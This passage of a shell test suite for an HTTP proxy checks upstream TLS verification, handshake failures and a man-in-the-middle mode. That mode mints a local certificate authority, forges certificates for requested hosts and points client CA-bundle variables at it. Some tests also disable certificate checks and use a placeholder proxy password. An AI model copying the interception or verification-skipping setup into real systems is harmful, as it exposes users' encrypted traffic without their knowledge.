	wait_for bob || fail 'the new login is not in force'
	is "$(code -k -u alice:one "$url")" 401
	certificate new p256 DNS:localhost
	cp new.pem site.pem && cp new.key site.key
	echo nonsense >users
	kill -HUP "$pid"
	is_new() { [ "$(subject)" = CN=new ]; }
	wait_for is_new || fail 'the new certificate is not in force'
	bob || fail 'the logins in force were not kept'
}

test_usr2_keeps_the_certificate_that_was_made() {
	start_tls -r /=200:x
	may_say '^proxy: USR2: started anew'
	is "$(get --cacert "$ca" "https://localhost:$port/")" x
	upgrade 1
	upgrade 2
	is "$(get --cacert "$ca" "https://localhost:$port/")" x
	[ -f "$ca" ] || fail 'its file has gone'
	is "$(grep -c 'was made' "err.$n")" 1
	stop
	[ ! -e "$ca" ] || fail 'its file is still there'
}

test_an_idle_tls_connection_costs_less_than_45_kb() {
	need python3
	need_proc
	sanitized && skip 'the sanitizers have memory of their own'
	start_tls -r /=200:x
	before=$(memory "$pid")
	tls_client >client.py
	cat >>client.py <<'END'
ctx = ssl.create_default_context(cafile=ca)
all = []
for i in range(1000):
    s = c(ctx); s.send(b'GET / HTTP/1.1\r\nHost: h\r\n\r\n'); s.recv(4096); all.append(s)
print('there', flush=True); sys.stdin.read()
END
	mkfifo hold
	python3 client.py "$port" "$ca" <hold >there & client=$!
	exec 9>hold
	wait_for lines_in 1 there || fail 'the client'
	after=$(memory "$pid")
	exec 9>&-
	wait $client
	[ $(((after - before) / 1000)) -lt 45 ] || fail "$(((after - before) / 1000)) KiB a connection"
}

test_chromium_accepts_the_certificate_that_was_made() {
	need chromium
	start_tls -r '/=200:<title>made</title><p id=a>page</p>' -R 'Content-Type: text/html'
	spki=$(openssl x509 -in "$ca" -noout -pubkey | openssl pkey -pubin -outform der | openssl dgst -sha256 -binary | openssl base64)
	"$peer" bound 15 chromium --headless --no-sandbox --disable-gpu --user-data-dir="$PWD/profile" --ignore-certificate-errors-spki-list="$spki" \
		--dump-dom "https://localhost:$port/" >dom 2>chromium.err || fail "$(tail -n 3 chromium.err)"
	has "$(cat dom)" page
}

# ---- TLS to servers ----

authority() {  # a root, and one below it: root.pem; chain NAME ALT-NAMES [OPENSSL-CA-OPTION...] is signed by that one
	printf '%s\n' '[ca]' default_ca=d '[d]' new_certs_dir=. database=index serial=serial default_md=sha256 policy=p unique_subject=no copy_extensions=copy \
		'[p]' commonName=supplied '[below]' basicConstraints=critical,CA:TRUE keyUsage=keyCertSign '[leaf]' basicConstraints=CA:FALSE >ca.cnf
	: >index && echo 1000 >serial
	openssl req -x509 -nodes -days 30 -subj /CN=root -newkey rsa:2048 -keyout root.key -out root.pem 2>/dev/null
	openssl req -new -nodes -subj /CN=below -newkey ec -pkeyopt ec_paramgen_curve:P-256 -keyout below.key -out below.csr 2>/dev/null
	openssl ca -config ca.cnf -batch -notext -days 20 -extensions below -cert root.pem -keyfile root.key -in below.csr -out below.pem 2>ca.err || fail "$(cat ca.err)"
}
chain() {
	leaf=$1 alt=$2
	shift 2
	[ $# -gt 0 ] || set -- -days 10
	openssl req -new -nodes -subj "/CN=$leaf" -addext "subjectAltName=$alt" -newkey ec -pkeyopt ec_paramgen_curve:P-256 -keyout "$leaf.key" -out "$leaf.csr" 2>/dev/null
	openssl ca -config ca.cnf -batch -notext "$@" -extensions leaf -cert below.pem -keyfile below.key -in "$leaf.csr" -out "$leaf.leaf" 2>ca.err || fail "$(cat ca.err)"
	cat "$leaf.leaf" below.pem >"$leaf.pem"
	chmod 600 "$leaf.key"
}
secure() {  # NAME ARGUMENT...: a server with that certificate, at $secure
	name=$1
	shift
	start_as -q -l https://127.0.0.1:0 -c "$name.pem,key=$name.key" "$@"
	secure=$port
}
refusal() { sed -n '$p' log; }
tls_server() {  # a server by the Python on stdin, which accepts at s with ctx; its number is in the file port
	certificate site p256 DNS:localhost
	{
		cat <<-'END'
		import socket, ssl, threading
		ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain('site.pem', 'site.key')
		s = socket.create_server(('127.0.0.1', 0)); print(s.getsockname()[1], flush=True)
		END
		cat
	} >server.py
	python3 server.py >port & helpers="$helpers $!"
	wait_for lines_in 1 port
}

test_servers_are_verified_and_the_log_says_what_failed() {
	need_tls
	authority
	chain good DNS:localhost,IP:127.0.0.1
	chain other DNS:other.example
	chain old DNS:localhost -startdate 20200101000000Z -enddate 20200102000000Z
	chain soon DNS:localhost -startdate 20400101000000Z -enddate 20400102000000Z
	chain names DNS:localhost
	chain numbers IP:127.0.0.1
	cp good.pem unchained.pem && cp good.key unchained.key && cp good.leaf unchained.pem
	openssl req -new -nodes -subj /CN=localhost -newkey ec -pkeyopt ec_paramgen_curve:P-256 -keyout nameless.key -out nameless.csr 2>/dev/null
	openssl x509 -req -in nameless.csr -CA below.pem -CAkey below.key -set_serial 9 -days 9 -out nameless.leaf 2>/dev/null
	for usage in clients:clientAuth both:serverAuth,clientAuth; do
		printf '%s\n' "extendedKeyUsage=${usage#*:}" subjectAltName=DNS:localhost >extensions
		openssl x509 -req -in nameless.csr -CA below.pem -CAkey below.key -set_serial 9 -days 9 -extfile extensions -out "${usage%:*}.leaf" 2>/dev/null
		cp nameless.key "${usage%:*}.key"
	done
	for leaf in nameless clients both; do cat $leaf.leaf below.pem >$leaf.pem; done
	openssl req -x509 -nodes -days 30 -subj /CN=long -addext subjectAltName=DNS:localhost -newkey rsa:4096 -keyout long.key -out long.pem 2>/dev/null
	chmod 600 ./*.key
	certificate alone p256 DNS:localhost
	may_say '^proxy: -c (old).pem: this certificate has expired'
	while read -r name host trust want; do
		secure "$name" -r /=200:x
		k=
		[ "$trust" = - ] || k="--ca $trust"
		[ "$trust" != -k ] || k=-k
		start_as -l 0 -o log --log-format '%>s %{why}x' -r "https://$host:$secure" $k
		code "$url" >status
		"$peer" nap 20
		is "$(refusal)" "$want" "what $name at $host with $trust comes to"
		[ "$want" = '200 -' ] && is "$(cat body)" x
	done <<-'END'
	good localhost root.pem 200 -
	good 127.0.0.1 root.pem 200 -
	good localhost - 502 tls-untrusted
	good localhost below.pem 200 -
	good localhost good.leaf 200 -
	good localhost alone.pem 502 tls-untrusted
	good localhost -k 200 -
	other localhost root.pem 502 tls-name
	other localhost -k 200 -
	old localhost root.pem 502 tls-expired
	old localhost -k 200 -
	soon localhost root.pem 502 tls-expired
	names 127.0.0.1 root.pem 502 tls-name
	numbers 127.0.0.1 root.pem 200 -
	numbers localhost root.pem 502 tls-name
	nameless localhost root.pem 502 tls-name
	clients localhost root.pem 502 tls-untrusted
	both localhost root.pem 200 -
	long localhost long.pem 200 -
	unchained localhost root.pem 502 tls-untrusted
	unchained localhost below.pem 200 -
	alone localhost alone.pem 200 -
	alone localhost root.pem 502 tls-untrusted
	END
	hasnt "$(cat body)" localhost
}

test_what_is_no_tls_of_ours_is_a_502_that_says_so() {
	need_tls
	start -r /=200:plain
	start_as -l 0 -o log --log-format '%>s %{why}x' -r "https://127.0.0.1:$port" -k
	answers 502 "$url"
	certificate new p256 DNS:localhost
	openssl s_server -accept 127.0.0.1:0 -cert new.pem -key new.key -tls1_3 -www >served 2>&1 & helpers="$helpers $!"
	wait_for grep -q '^ACCEPT' served || fail "$(cat served)"
	start_as -l 0 -o log --log-format '%>s %{why}x' -r "https://$(sed -n 's/^ACCEPT //p' served | head -n 1)" -k
	answers 502 "$url"
	is "$(cat log)" '502 tls-failed
502 tls-failed'
	helper listen silent hang
	start_as -l 0 -o late --log-format '%>s %{why}x' -t connect=1s -r "https://127.0.0.1:$said" -k
	answers 504 "$url"
	is "$(cat late)" '504 connect-late'
}

test_requests_to_a_server_with_tls_are_as_to_any_other() {
	need python3
	need_tls
	certificate site p256 DNS:localhost
	head -c 5000000 /dev/urandom >big
	secure site -r /=echo -r /big=file:big -r /cached=200:c -R 'Cache-Control: max-age=60' -r /go=302:https://localhost:1/there -A 0
	behind=$(sed -n 2p "out.$n")
	may_say '^proxy: member .* is down: '
	start -r "https://localhost:$secure" --ca site.pem -C cache -A 0 --health /cached,interval=100ms
	admin=$(sed -n 2p "out.$n")
	code -d hello "$url/a" >status
	is "$(member content)" hello
	is "$(field Host)" "localhost:$secure"
	get "$url/big" | cmp - big || fail 'a large answer'
	get -H Expect: --data-binary @big "$url/" 2>curl.err | head -c 2000 >echoed
	has "$(cat echoed)" '"Content-Length","5000000"'
	for i in 1 2; do answers 200 "$url/cached"; done
	has "$(header Cache-Status)" '; hit'
	[ -n "${SMALL_BLOCKS-}" ] || [ "$(get "$behind/metrics" | sed -n 's/^proxy_tls_handshakes_total{result="full"} //p')" -le 3 ] ||
		fail 'sessions are not resumed'
	state_of() { get "$admin/metrics" | sed -n 's/^proxy_member_up.* //p'; }
	is "$(state_of)" 1
	certificate other p256 DNS:localhost
	start -r "https://localhost:$secure/go,host=localhost:1" --ca site.pem
	is "$(code "$url/")" 302
	is "$(header Location)" "$url/there"
}

test_nginx_and_node_are_reached_with_tls() {
	need_tls
	need nginx
	certificate site rsa DNS:localhost
	port=$("$peer" port)
	mkdir -p n/logs && head -c 3000000 /dev/urandom >n/big
	cat >n/nginx.conf <<-END
	$([ "$(id -u)" = 0 ] && echo 'user root;') daemon off; pid n.pid; error_log stderr crit; events { }
	http { access_log off; client_body_temp_path b; proxy_temp_path p; fastcgi_temp_path f; uwsgi_temp_path u; scgi_temp_path s;
	ssl_protocols TLSv1.2; ssl_session_cache shared:s:1m;
	server { listen 127.0.0.1:$port ssl; ssl_certificate $PWD/site.pem; ssl_certificate_key $PWD/site.key; root $PWD/n;
	location /sni { return 200 "\$ssl_server_name \$ssl_session_reused \$ssl_alpn_protocol"; } } }
	END
	PATH=$PATH:/usr/sbin nginx -p "$PWD/n" -c "$PWD/n/nginx.conf" 2>nginx.err & helpers="$helpers $!"
	behind=$port
	up() { curl -q -s -k -o /dev/null "https://127.0.0.1:$behind/sni"; }
	wait_for up || fail "$(cat nginx.err)"
	start -t pool=0 -r "https://localhost:$behind" --ca site.pem
	like "$(get "$url/sni")" '^localhost \. '
	like "$(get "$url/sni")" '^localhost r ' 'a second connection'
	get "$url/big" | cmp - n/big || fail 'a large answer'
	start -f --ca site.pem
	like "$(printf 'GET https://localhost:%s/sni HTTP/1.1\r\nHost: localhost:%s\r\nConnection: close\r\n\r\n' "$behind" "$behind" >asked; "$peer" talk "$port" "send:$(sed 's/\r$/\\r\\n/' asked | tr -d '\n')" rest)" 'localhost'
}

test_an_answer_of_a_server_with_tls_that_is_cut_is_seen_to_be() {
	need python3
	need_tls
	tls_server <<'END'
def serve(c):
    try:
        t = ctx.wrap_socket(c, server_side=True); p = t.recv(9999).split()[1]
        if p == b'/whole': t.sendall(b'HTTP/1.1 200 OK\r\n\r\nwhole'); t.unwrap()
        elif p == b'/cut': t.sendall(b'HTTP/1.1 200 OK\r\n\r\ncut'); socket.socket(fileno=t.detach()).close()
        elif p == b'/short': t.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nshort'); t.unwrap()
        elif p == b'/none': socket.socket(fileno=t.detach()).close()
    except (OSError, ssl.SSLError): pass
while True: threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
END
	start -r "https://localhost:$(cat port)" --ca site.pem
	is "$(get "$url/whole")" whole
	for path in cut short; do
		get "$url/$path" >got 2>curl.err && fail "/$path looks whole"
	done
	answers 502 "$url/none"
}

test_a_server_s_handshake_may_be_cut_anywhere() {
	need python3
	need_tls
	certificate site p256 DNS:localhost
	secure site -r /=200:x
	cat >middle.py <<'END'
import socket, sys, threading
to, cut = int(sys.argv[1]), 0
s = socket.create_server(('127.0.0.1', 0)); print(s.getsockname()[1], flush=True)
def one(c, n):
    u = socket.create_connection(('127.0.0.1', to)); left = [n]
    def up():
        try:
            while b := c.recv(4096): u.sendall(b)
        except OSError: pass
    threading.Thread(target=up, daemon=True).start()
    try:
        while left[0] and (b := u.recv(min(4096, left[0]))): c.sendall(b); left[0] -= len(b)
    except OSError: pass
    for x in (c, u):
        try: x.shutdown(socket.SHUT_RDWR)
        except OSError: pass
        x.close()
n = 0
while True:
    c = s.accept()[0]; threading.Thread(target=one, args=(c, n), daemon=True).start(); n += 13
END
	python3 middle.py "$secure" >port & helpers="$helpers $!"
	wait_for lines_in 1 port
	start -t pool=0 -b rr,retries=0 -r "https://localhost:$(cat port)" --ca site.pem
	bad=0
	for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30 31 32 33 34 35 36 37 38 39 40 41 42 43 44 45 46 47 48 49 50 51 52 53 54 55 56 57 58 59 60 61 62 63 64 65 66 67 68 69 70; do
		case $(code "$url") in 200) break ;; 502) bad=$((bad + 1)) ;; *) fail "status $(code "$url")" ;; esac
	done
	[ $bad -ge 20 ] || fail "only $bad handshakes were cut"
	answers 200 "$url"
}

test_tls_goes_through_parents_and_to_the_next_member() {
	need_tls
	certificate site p256 DNS:localhost
	certificate other p256 DNS:other.example
	secure site -r '/=200:x'
	inner=$secure
	secure other -r '/=200:y'
	start -r "https://localhost:$secure" -r "https://localhost:$inner" --ca site.pem
	for i in 1 2 3 4; do is "$(get "$url")" x; done
	start_logged -f -a all
	parent=$port
	for kind in http socks5; do
		start -f --ca site.pem -x "$kind://127.0.0.1:$parent"
		like "$("$peer" talk "$port" "send:GET https://localhost:$inner/ HTTP/1.1\\r\\nHost: localhost:$inner\\r\\nConnection: close\\r\\n\\r\\n" rest)" '200 OK'
	done
	tunnels() { [ "$(grep -c ":$inner" log)" = 2 ]; }
	wait_for tunnels || fail "through the parent went: $(cat log)"
}

test_a_parent_s_login_stays_with_the_parent() {
	need_tls
	certificate site p256 DNS:localhost
	secure site -r /=echo
	start -f -a all -u me:secretpw
	parent=$port
	start -f --ca site.pem -x "http://me:secretpw@127.0.0.1:$parent"
	"$peer" talk "$port" "send:GET https://localhost:$secure/ HTTP/1.1\r\nHost: localhost:$secure\r\nConnection: close\r\n\r\n" rest >said
	like "$(head -n 1 said)" '200 OK'
	hasnt "$(cat said)" Proxy-Authorization
}

test_a_server_at_an_ipv6_address_shows_a_certificate_for_it() {
	need_tls
	have_ipv6
	for ip in ::1 ::2; do
		certificate six p256 "IP:$ip"
		start_as -q -l 'https://[::1]:0' -c six.pem,key=six.key -r /=200:six
		start_logged -r "https://[::1]:$port" --ca six.pem
		case $ip in
		::1) is "$(get "$url")" six ;;
		*) answers 502 "$url" && like "$(refusal)" 502 ;;
		esac
	done
}

test_probe_asks_with_tls_and_verifies() {
	need_tls
	certificate site p256 DNS:localhost
	secure site -r /=200:x -r /sick=500
	try --probe "https://localhost:$secure/" --ca site.pem
	is "$status $out$err" '0 '
	try --probe "https://localhost:$secure/" -k
	is "$status $out$err" '0 '
	try --probe "https://localhost:$secure/sick" --ca site.pem
	is "$status" 1
	has "$err" 'status 500'
	try --probe "https://localhost:$secure/"
	is "$status" 1
	has "$err" 'leads to nobody who is trusted'
	try --probe "https://127.0.0.1:$secure/" --ca site.pem
	is "$status" 1
	has "$err" 'for another name'
	refuses 'nothing to verify' --probe http://h/ -k
	refuses 'no other flag' --probe https://h/ -k -q
}

test_a_handshake_that_fails_has_a_line_in_the_log() {
	need_tls
	certificate site p256 DNS:localhost
	start_as -l https://127.0.0.1:0 -o log --log-format json -c site.pem,key=site.key -r /=200:x
	code "https://localhost:$port/" && fail 'curl trusts it'
	wait_for lines_in 1 log || fail 'no line'
	has "$(cat log)" '"method":null'
	has "$(cat log)" '"why":"tls-distrust"'
	shown -tls1_3 >/dev/null
	wait_for lines_in 2 log || fail 'no second line'
	has "$(refusal)" '"why":"tls-client"'
	talk "$port" shut rest                      # no more than a look whether somebody listens
	is "$(get --cacert site.pem "https://localhost:$port/")" x
	wait_for lines_in 3 log
	is "$(wc -l <log | tr -d ' ')" 3
}

test_an_early_answer_of_a_server_with_tls_is_passed_on() {
	need python3
	need_tls
	tls_server <<'END'
while True:
    try:
        t = ctx.wrap_socket(s.accept()[0], server_side=True); t.recv(9999)
        t.sendall(b'HTTP/1.1 413 Too Large\r\nContent-Length: 3\r\nConnection: close\r\n\r\nbig'); t.unwrap()
    except (OSError, ssl.SSLError): pass
    t.close()
END
	head -c 30000000 /dev/zero >big
	start -r "https://localhost:$(cat port)" --ca site.pem
	for i in 1 2 3; do is "$(code -H Expect: -T big "$url/")" 413; done
}

test_usage_errors_of_tls_to_servers_name_what_is_wrong() {
	need_tls
	while IFS='|' read -r args message; do
		eval "set -- $args"
		(refuses "$message" -l 0 "$@") || bad=1
	done <<-'END'
	-k -r 200|-k: no server
	--ca x -r 200|--ca: no server
	-k --ca x -r https://h|-k: --ca
	-r https://h,proxy|proxy
	-x https://|HOST
	END
	try -l 0 -r https://h --ca absent
	is "$status" 1
	has "$err" '--ca absent: No such file'
	echo nonsense >nonsense
	try -l 0 -r https://h --ca nonsense
	is "$status" 1
	has "$err" '--ca nonsense: there is no certificate'
	exit "${bad:-0}"
}

# ---- -M: what passes in tunnels is read ----

start_mitm() {  # the authority is in mitm; the access log goes to the file log
	need_tls
	may_say '^proxy: -M: an authority was made for you: '
	start_as -l 0 -o log -M mitm "$@"
}
inside() { get -x "$url" --cacert mitm/ca.pem "$@"; }
code_inside() { code -x "$url" --cacert mitm/ca.pem "$@"; }
site() {  # a server that is localhost and the like, at $secure
	need_tls
	certificate site p256 DNS:localhost,DNS:a.localhost,DNS:b.a.localhost,DNS:xa.localhost,DNS:site.example,IP:127.0.0.1
	secure site "$@"
}
shown_through() { openssl s_client -proxy "127.0.0.1:$port" -connect "$@" </dev/null 2>&1; }
mode_of() { find "$1" -prune -printf %m; }
tunnel_client() {  # python: what a client does that asks the proxy at port $1 for tunnels
	cat <<'END'
import os, socket, ssl, sys
port = int(sys.argv[1])
def read(s, end=b'\r\n\r\n'):
    got = b''
    while not got.endswith(end):
        b = s.recv(1)
        if not b: break
        got += b
    return got
def rest(s):
    got = b''
    while b := s.recv(65536): got += b
    return got
def connect():
    s = socket.create_connection(('127.0.0.1', port)); s.settimeout(15)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s
def words(to): return b'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (to.encode(), to.encode())
def tunnel(to):
    s = connect(); s.sendall(words(to)); head = read(s)
    assert head.startswith(b'HTTP/1.1 200'), head
    return s
def context(alpn=None, ca='mitm/ca.pem'):
    c = ssl.create_default_context(cafile=ca)
    if alpn: c.set_alpn_protocols(alpn)
    return c
def secured(to, name='localhost', c=None): return (c or context()).wrap_socket(tunnel(to), server_hostname=name)
def ask(s, host, target='/', method='GET', more=''):
    s.sendall(f'{method} {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n'.encode())
    head = read(s).decode(); n = 0
    for f in head.lower().split('\r\n'):
        if f.startswith('content-length:'): n = int(f[15:])
    body = b''
    while len(body) < n: body += s.recv(n - len(body))
    return head[9:12], body.decode()
def same(a, b): assert a == b, f'{a!r} is not {b!r}'
END
}

test_an_authority_is_made_once_and_its_key_is_secret() {
	need_tls
	(umask 0; exec "$PROXY" -q -M mitm -- true) 2>said || fail "$(cat said)"
	is "$(cat said)" "proxy: -M: an authority was made for you: have clients trust $PWD/mitm/ca.pem, and nobody read its key"
	is "$(mode_of mitm) $(mode_of mitm/ca-key.pem) $(mode_of mitm/ca.pem) $(mode_of mitm/bundle.pem)" '700 600 644 644'
	is "$(ls mitm | tr '\n' ' ')" 'bundle.p12 bundle.pem ca-key.pem ca.pem '
	hasnt "$(cat mitm/ca.pem mitm/bundle.pem)" PRIVATE
	is "$(openssl verify -CAfile mitm/ca.pem mitm/ca.pem)" 'mitm/ca.pem: OK'
	has "$(openssl x509 -in mitm/ca.pem -noout -text)" CA:TRUE
	tail -n "$(wc -l <mitm/ca.pem)" mitm/bundle.pem | cmp - mitm/ca.pem || fail 'the bundle does not end with it'
	[ ! -f /etc/ssl/certs/ca-certificates.crt ] || [ "$(grep -c BEGIN mitm/bundle.pem)" = $(($(grep -c BEGIN /etc/ssl/certs/ca-certificates.crt) + 1)) ] ||
		fail 'the bundle has not the authorities of the system'
	cat mitm/* >before
	rm mitm/bundle.pem
	start_as -q -l 0 -M mitm -A 0
	is "$(cat "err.$n")" '' 'what the second says'
	cat mitm/* | cmp - before || fail 'it was not kept'
	admin=$(sed -n 2p "out.$n")
	get "$admin/ca.pem" | cmp - mitm/ca.pem || fail '/ca.pem is another'
	start_as -q -l 0 -A 0
	is "$(code "$(sed -n 2p "out.$n")/ca.pem")" 404 'the status of /ca.pem without -M'
	try --dry-run -l 0 -M absent
	is "$status" 0
	mkdir empty
	try --dry-run -l 0 -M empty
	[ ! -e absent ] && rmdir empty || fail '--dry-run makes it'
}

test_several_that_start_at_once_agree_on_one_authority() {
	need_tls
	for i in 1 2 3 4 5 6; do
		"$PROXY" -q -M mitm -- cat mitm/ca.pem mitm/ca-key.pem >"got.$i" 2>"said.$i" &
	done
	wait
	for i in 1 2 3 4 5 6; do cmp got.1 "got.$i" || fail 'they have not the same'; done
	grep -q BEGIN got.1 || fail "$(cat said.*)"
	is "$(cat said.* | wc -l | tr -d ' ')" 1 'how often one was made'
	command -v flock >have && [ -d /proc/self/fd ] || return 0
	mkdir -m 700 slow
	mkfifo go
	flock slow sh -c 'touch held; cat go' >waited & helpers="$helpers $!"
	wait_for test -f held
	"$PROXY" -q -M slow -- cat slow/ca.pem >got 2>said & late=$!
	at_the_lock() { find "/proc/$late/fd" -lname '*/slow' | grep -q .; }
	wait_for at_the_lock || fail 'it does not wait while another has the directory'
	cp mitm/ca.pem mitm/ca-key.pem slow
	echo >go
	wait $late
	cmp got mitm/ca.pem || fail 'it has not the one that the other made'
	is "$(cat said)" ''
}

test_requests_in_tunnels_of_every_kind_are_read() {
	site -r /=echo
	start -r /=echo
	plain=$port
	start_mitm --log-format '%r %>s' --ca site.pem
	for way in proxy socks4 socks4a socks5 socks5-hostname; do
		case $way in *4 | *5) host=127.0.0.1 ;; *) host=localhost ;; esac
		code "--$way" "127.0.0.1:$port" --cacert mitm/ca.pem -d content "https://$host:$secure/$way?q" >status
		is "$(member target) $(member content) $(field Host) $(field X-Forwarded-For)" "/$way?q content $host:$secure " "the request by $way"
		has "$(field Via)" '1.1 proxy'
		echo "POST https://$host:$secure/$way?q HTTP/1.1 200"
	done >expected
	code_inside -p "http://localhost:$plain/plain" >status
	is "$(member target) $(field Host)" "/plain localhost:$plain" 'a request without TLS'
	echo "GET http://localhost:$plain/plain HTTP/1.1 200" >>expected
	logged 6
	is "$(cat log)" "$(cat expected)" 'the log'
}

test_a_command_finds_the_authority_in_its_environment() {
	need_tls
	need python3 node git
	mkdir served && git init -q --bare served/r.git && echo "$(printf %040d 7)	refs/heads/main" >refs
	site -r /=200:read -r /r.git/info/refs=file:refs -r /r.git/HEAD=file:served/r.git/HEAD
	cat >orders <<-'END'
	for name in SSL_CERT_FILE CURL_CA_BUNDLE GIT_SSL_CAINFO CARGO_HTTP_CAINFO DENO_CERT NIX_SSL_CERT_FILE REQUESTS_CA_BUNDLE PIP_CERT AWS_CA_BUNDLE; do
		eval "[ \"\${$name-}\" = \"$mitm/bundle.pem\" ] || echo \"$name is '\${$name-unset}'\""
	done
	[ "$NODE_EXTRA_CA_CERTS" = "$mitm/ca.pem" ] || echo "NODE_EXTRA_CA_CERTS is $NODE_EXTRA_CA_CERTS"
	cd /
	curl -q -sS -m 9 "$at/curl"; echo
	python3 -c 'import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=9).read().decode())' "$at/python"
	node -e 'const u = new URL(process.env.PROXY_URL), to = new URL(process.argv[1]);
	require("http").request({ host: u.hostname, port: u.port, method: "CONNECT", path: to.host }).on("connect", (r, socket) =>
	    require("https").get({ host: to.hostname, path: to.pathname, headers: { host: to.host }, socket, agent: false },
	        r => r.on("data", d => console.log(String(d))))).end()' "$at/node"
	git ls-remote "$at/r.git"
	printf 'GET /openssl HTTP/1.0\r\n\r\n' | openssl s_client -quiet -verify_return_error -proxy "${PROXY_URL#http://}" -connect "${at#https://}" 2>/dev/null | tail -n 1
	END
	mitm=$PWD/mitm at=https://localhost:$secure
	export mitm at
	runs -o log --log-format '%r' -M mitm --ca site.pem -- sh ./orders
	like "$err" '^proxy: -M: an authority was made for you: [^ ]* *'
	is "$out" "read
read
read
$(cat refs)
read"
	for client in curl python node r.git/HEAD openssl; do has "$(cat log)" "GET $at/$client HTTP/1." 'the log'; done
	unset mitm at
}

test_certificates_inside_are_for_what_was_asked_for() {
	need python3
	start_mitm
	long=a.$(printf %050d 0).$(printf %050d 0).example
	for host in one.example "$long"; do
		shown_through "$host:443" -servername "$host" -tls1_2 -showcerts -CAfile mitm/ca.pem -verify_hostname "$host" >shown
		has "$(cat shown)" 'Verify return code: 0 (ok)' "with $host,"
		sed -n '/BEGIN/,/END/p' shown >leaf.pem
		is "$(openssl verify -purpose sslserver -x509_strict -verify_hostname "$host" -CAfile mitm/ca.pem leaf.pem 2>&1)" 'leaf.pem: OK'
		is "$(openssl x509 -in leaf.pem -noout -ext subjectAltName | tail -n 1 | tr -d ' ')" "DNS:$host"
		openssl x509 -in leaf.pem -noout -checkend $((29 * 86400)) >checked || fail 'it ends too soon'
		like "$(openssl x509 -in leaf.pem -noout -subject -nameopt multiline | tail -n 1)" '= .{1,64}$' 'the common name'
	done
	shown_through 127.0.0.1:443 -showcerts | sed -n '/BEGIN/,/END/p' >leaf.pem
	is "$(openssl verify -verify_ip 127.0.0.1 -CAfile mitm/ca.pem leaf.pem 2>&1)" 'leaf.pem: OK'
	is "$(openssl x509 -in leaf.pem -noout -ext subjectAltName | tail -n 1 | tr -d ' ')" 'IPAddress:127.0.0.1'
	{ tunnel_client; cat <<'END'; } >client.py
same(secured('[::1]:443', '::1').getpeercert()['subjectAltName'], (('IP Address', '0:0:0:0:0:0:0:1'),))
one = secured('one.example:443', 'one.example').getpeercert()
same(one['serialNumber'], secured('one.example:443', 'one.example').getpeercert()['serialNumber'])
for i in range(90): secured(f'h{i}.example:443', f'h{i}.example')
END
	python3 client.py "$port" || fail 'the client'
}

test_hosts_that_are_excepted_are_not_read() {
	site -r /=200:x
	start_as -l 0 -o log --log-format %r -M mitm,except=A.localhost,except=other.example --ca site.pem
	may_say '^proxy: -M: an authority was made for you: '
	for host in a.localhost b.a.localhost xa.localhost localhost; do
		case $host in *.a.* | a.*) want=CN=site cert=site.pem log="CONNECT $host:$secure" ;; *) want=CN=$host cert=mitm/ca.pem log="GET https://$host:$secure/" ;; esac
		is "$(shown_through "$host:$secure" -servername "$host" | sed -n 's/^subject=//p' | tr -d ' ')" "$want" "who $host is"
		is "$(get -x "$url" --cacert "$cert" "https://$host:$secure/")" x "what is read of $host"
		wait_for grep -q "^$log HTTP/1.1\$" log || fail "no '$log' in the log: $(cat log)"
	done
}

test_servers_are_verified_though_tunnels_are_read() {
	need_tls
	authority
	chain good DNS:localhost
	chain other DNS:other.example
	chain old DNS:localhost -startdate 20200101000000Z -enddate 20200102000000Z
	certificate alone p256 DNS:localhost
	may_say '^proxy: -c (old).pem: this certificate has expired'
	start_mitm --ca root.pem --log-format '%>s %{why}x'
	by=$url
	while read -r name want why; do
		secure "$name" -r /=200:x
		is "$(code -x "$by" --cacert mitm/ca.pem "https://localhost:$secure/")" "$want" "the status of $name"
		echo "$want $why" >>expected
	done <<-'END'
	good 200 -
	other 502 tls-name
	old 502 tls-expired
	alone 502 tls-untrusted
	END
	logged 4
	is "$(cat log)" "$(cat expected)" 'the log'
	secure alone -r /=200:x
	start_mitm -k
	is "$(inside "https://localhost:$secure/")" x 'with -k'
}

test_a_client_that_distrusts_is_told_of_once() {
	site -r /=200:x
	start_mitm --ca site.pem --log-format '%r %{why}x'
	may_say '^proxy: -M: a client does not trust our certificate for localhost; have it trust [^ ]*/mitm/ca.pem$'
	for i in 1 2; do is "$(code -x "$url" "https://localhost:$secure/")" 000; done
	logged 2
	is "$(cat log)" "CONNECT localhost:$secure HTTP/1.1 tls-distrust
CONNECT localhost:$secure HTTP/1.1 tls-distrust"
	is "$(grep -c 'does not trust' "err.$n")" 1 'how often it is said'
	is "$(inside "https://localhost:$secure/")" x
}

test_an_upgrade_passes_inside() {
	need python3
	need_tls
	tls_server <<'END'
def serve(c):
    try:
        t = ctx.wrap_socket(c, server_side=True); h = b''
        while b'\r\n\r\n' not in h: h += t.recv(9999)
        assert b'\r\nUpgrade: websocket\r\n' in h, h
        t.sendall(b'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nfirst')
        while b := t.recv(9999): t.sendall(b)
        t.sendall(b'last'); t.unwrap()
    except (OSError, ssl.SSLError): pass
while True: threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
END
	to=localhost:$(cat port)
	start_mitm --ca site.pem --log-format '%r %>s'
	{ tunnel_client; cat <<'END'; } >client.py
s = secured(sys.argv[2]); s.sendall(b'GET /ws HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n' % sys.argv[2].encode())
head = read(s); assert head.startswith(b'HTTP/1.1 101 '), head
same(read(s, b'first'), b'first')
for b in b'\x81\x05hello', os.urandom(300000):
    s.sendall(b); got = b''
    while len(got) < len(b): got += s.recv(65536)
    same(got, b)
END
	python3 client.py "$port" "$to" || fail 'the client'
	logged
	is "$(cat log)" "GET https://$to/ws HTTP/1.1 101"
}

test_other_protocols_pass_through_tunnels_as_they_are() {
	need python3
	start_mitm --log-format '%r %>s'
	{ tunnel_client; cat <<'END'; } >client.py
import threading
def server(first):
    l = socket.create_server(('127.0.0.1', 0))
    def serve():
        c = l.accept()[0]; c.sendall(first)
        while b := c.recv(65536): c.sendall(b)
        c.sendall(b'end'); c.close()
